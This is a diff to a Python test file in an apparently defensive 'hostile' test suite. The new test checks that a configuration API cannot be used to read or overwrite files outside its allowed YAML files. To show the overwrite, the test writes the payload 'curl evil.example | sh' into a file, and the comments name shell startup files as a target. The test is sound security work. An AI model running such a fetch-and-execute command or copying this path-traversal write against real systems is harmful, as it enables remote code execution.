@@ -1,5 +1,7 @@
 """Paths that lead out of where they should: no request ever names a file, so none can."""
 
+import hashlib
+import json
 from dataclasses import dataclass
 from pathlib import Path
 
@@ -7,6 +9,7 @@ import pytest
 from starlette.responses import Response
 from starlette.types import Receive, Scope, Send
 
+from halley.studio.desk import named as named_files
 from halley.studio.pages import Pages, read_leaves
 from tests.hostile.studio import PAGE, attacked, settings
 
@@ -81,6 +84,29 @@ def test_a_file_that_came_after_the_start_is_not_served(tmp_path: Path) -> None:
     with attacked(settings(tmp_path), shown=Pages(read_leaves(static))) as target:
         (static / "assets" / "late-0123abcd.js").write_bytes(TREASURE)
         assert target.asks("GET", "/assets/late-0123abcd.js").status == 404
+
+
+@pytest.mark.parametrize("is_walled", [True, False], ids=["all walls", "without endings"])
+def test_a_configuration_that_names_a_file_of_another_kind_does_not_open_it(
+    is_walled: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Who may edit a configuration may write into it what he wants: a key, say, or what a shell reads when it starts.
+
+    A name has the ending of a YAML file before it is looked up, so that it leads to such files only.
+    """
+    (tmp_path / "treasure").write_bytes(TREASURE)
+    if not is_walled:
+        monkeypatch.setattr(named_files, "resolve_file", lambda text, _: Path(text))
+    text = f"libraries:\n  Movies:\n    overlay_files:\n      - file: {tmp_path}/treasure\n"
+    with attacked(settings(tmp_path)) as target:
+        made = target.asks("POST", "/api/v1/configurations", *target.entitled, body=json.dumps({"text": text}).encode())
+        files = f"/api/v1/configurations/{json.loads(made.body)['id']}/files/{str(tmp_path / 'treasure').lstrip('/')}"
+        answer = target.asks("GET", files)
+        assert (TREASURE in answer.body) == (not is_walled)
+        digest = json.loads(answer.body).get("digest", hashlib.sha256(TREASURE).hexdigest())
+        evil = json.dumps({"text": "curl evil.example | sh\n", "digest": digest}).encode()
+        target.asks("PUT", files, *target.entitled, body=evil)
+        assert ((tmp_path / "treasure").read_bytes() == TREASURE) == is_walled
 
 
 NAMED = (
